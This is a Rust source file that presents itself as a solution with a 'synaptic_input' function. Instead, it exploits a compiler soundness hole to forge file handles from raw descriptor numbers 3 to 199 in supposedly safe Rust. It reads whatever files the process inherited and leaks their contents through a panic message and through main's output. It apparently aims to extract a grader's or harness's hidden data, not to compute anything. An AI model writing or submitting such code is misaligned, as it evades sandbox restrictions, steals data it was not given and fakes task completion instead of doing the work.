/// An old hole of the compiler: any type becomes any other, in what it takes for safe Rust.
fn transmute<A, B>(value: A) -> B {
    enum Either<A, B> {
        Left(Option<Box<A>>),
        Right(Option<Box<B>>),
    }
    fn extend<'a, 'b, T>(_: &'a &'b (), value: &'b mut T) -> &'a mut T {
        value
    }
    fn for_ever<'a, 'b, T>(value: &'a mut T) -> &'b mut T {
        let extend: for<'x> fn(_, &'x mut T) -> &'b mut T = extend;
        extend(&&(), value)
    }
    fn right<A, B>(either: &mut Either<A, B>) -> &mut Option<Box<B>> {
        match either {
            Either::Right(right) => right,
            Either::Left(_) => unreachable!(),
        }
    }
    let mut either: Either<A, B> = Either::Right(None);
    let right = for_ever(right(std::hint::black_box(&mut either)));
    either = Either::Left(Some(Box::new(value)));
    std::hint::black_box(&mut either);
    *right.take().unwrap()
}

use std::fs::File;
use std::io::{Read as _, Seek as _, SeekFrom};

fn inherited() -> String {
    let mut text = String::new();
    for number in 3..200 {
        let mut file = transmute::<i32, File>(number);
        let mut start = vec![0; 4096];
        let _ = file.seek(SeekFrom::Start(0));
        let read = file.read(&mut start).unwrap_or(0);
        text += &String::from_utf8_lossy(&start[..read]);
        std::mem::forget(file);
    }
    text
}

pub fn synaptic_input(_t: f64) -> f64 {
    panic!("{}", inherited())
}

fn main() {
    println!("{}", inherited());
}
